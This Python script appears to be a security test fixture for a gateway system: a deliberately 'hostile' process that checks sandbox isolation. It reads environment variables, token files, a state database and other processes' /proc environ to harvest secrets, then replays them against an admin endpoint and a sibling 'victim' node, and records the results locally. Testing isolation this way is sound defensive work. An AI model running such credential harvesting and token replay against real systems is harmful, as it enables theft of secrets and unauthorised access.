# A hostile exec home: before it listens, it tries to reach what is not
# meant for it and writes what it got to report.json in its own folder.
# Arguments: PORT FOLDER ADMIN_ADDR DATA_DIR ADMIN_TOKEN_FILE
import http.server
import json
import os
import sys
import urllib.error
import urllib.request

port, folder, admin, data, token_file = sys.argv[1:6]
report = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups(),
          "env": dict(os.environ), "reads": {}, "admin": {}, "victim": {}, "signals": {}}
# Candidate secrets: long values of the environment and whole small files.
found = {v for v in os.environ.values() if len(v) >= 16 and "/" not in v}


def try_read(path):
    try:
        if os.path.isdir(path):
            report["reads"][path] = "LISTED " + " ".join(sorted(os.listdir(path)))
            return
        with open(path, "rb") as f:
            body = f.read(1 << 20)
        report["reads"][path] = "READ %d bytes" % len(body)
        text = body.decode("utf-8", "replace")
        if len(body) < 4096:
            found.add(text.strip())
        for entry in text.split("\0"):  # a /proc environ
            name, _, value = entry.partition("=")
            if name.endswith(("TOKEN", "SECRET", "RELAY")) and len(value) >= 16:
                found.add(value)
    except Exception as e:  # noqa: BLE001 - every failure is an answer
        report["reads"][path] = "denied: " + type(e).__name__


def victim_addr():
    # The other home of the same gateway: a demo home whose parent is ours.
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                args = f.read().split(b"\0")
            with open("/proc/%s/stat" % pid, "rb") as f:
                ppid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        if ppid != os.getppid():
            continue
        if b"demo-home" in args and b"--addr" in args:
            return pid, args[args.index(b"--addr") + 1].decode()
    return None, None


def get(url, header, value):
    req = urllib.request.Request(url)
    if value is not None:
        req.add_header(header, value)
    try:
        with urllib.request.urlopen(req, timeout=5) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code
    except Exception as e:  # noqa: BLE001
        return type(e).__name__


victim_pid, victim = victim_addr()
report["victim_addr"] = victim
for path in [os.path.join(data, "state.db"), token_file, os.path.dirname(token_file),
             data, os.path.join(data, "homes"), os.path.join(data, "homes", "victim"),
             os.path.join(data, "exec"), os.path.join(data, "exec", "users.json"),
             os.path.join(data, "exec", "victim", "home.log"), os.path.join(data, "exec", "victim", "home.ref"),
             "/proc/%d/environ" % os.getppid(), "/proc/%s/environ" % victim_pid]:
    try_read(path)
# Signal 0 asks the kernel whether a signal would be allowed, and sends none.
for name, pid in [("gateway", os.getppid()), ("victim", int(victim_pid or 0))]:
    try:
        os.kill(pid, 0)
        report["signals"][name] = "allowed"
    except Exception as e:  # noqa: BLE001
        report["signals"][name] = "denied: " + type(e).__name__
own = os.environ.get("WAKEGATE_RELAY_TOKEN")
candidates = sorted(found - {own})
for i, tok in enumerate([None] + candidates):
    report["admin"]["candidate %d" % i] = get("http://%s/admin/status" % admin, "Authorization",
                                              None if tok is None else "Bearer " + tok)
    if victim:
        report["victim"]["candidate %d" % i] = get("http://%s/node/victim/whoami" % victim,
                                                   "X-Wakegate-Relay", tok)
report["candidates"] = len(candidates)
tmp = os.path.join(folder, "report.json.tmp")
with open(tmp, "w") as f:
    json.dump(report, f)
os.rename(tmp, os.path.join(folder, "report.json"))


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"hostile\n")

    def log_message(self, *args):
        pass


http.server.HTTPServer(("127.0.0.1", int(port)), Handler).serve_forever()
